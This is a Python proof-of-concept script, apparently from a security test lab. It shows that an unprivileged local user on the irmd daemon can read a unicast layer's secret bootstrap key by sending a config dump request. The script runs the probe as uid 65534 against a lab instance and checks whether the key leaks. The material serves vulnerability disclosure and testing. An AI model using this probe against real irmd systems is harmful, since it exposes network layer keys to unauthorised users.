"""irmd: any local user reads a unicast layer's key with `irm dump config`.

Dump is not an administrative request, and the config it writes repeats every bootstrap option
as given, the layer key included (docs/security/unicast.md: "never sent ... not in dumps").
uid 65534 sends Dump("config") and finds the key root bootstrapped the layer with.
"""

from __future__ import annotations

import secrets

from lab import as_nobody, irmd, lab, main

PROBE = r"""
from flowlib.irm import call, open_channel
from proto import messages as m
ch = open_channel(None)
reply, _ = call(ch, m.Dump("config"), 10)
print(reply.text)
"""


def attack() -> bool:
    key = secrets.token_hex(16)
    with lab("dumpkey") as d, irmd(d, local=False) as ir:
        ir.irm_ok("ipcp", "bootstrap", "name", "n1", "type", "unicast", "layer", "net", "key", key)
        r = as_nobody(ir, PROBE)
        print("uid 65534's `irm dump config`:\n" + r.stdout.strip() + r.stderr.strip()[-300:])
        show = ir.irm("ipcp", "show", "n1")
        print("(irm ipcp show, as root, says:", [ln for ln in show.stdout.splitlines() if "key" in ln], ")")
        return key in r.stdout


if __name__ == "__main__":
    main(attack, 120)
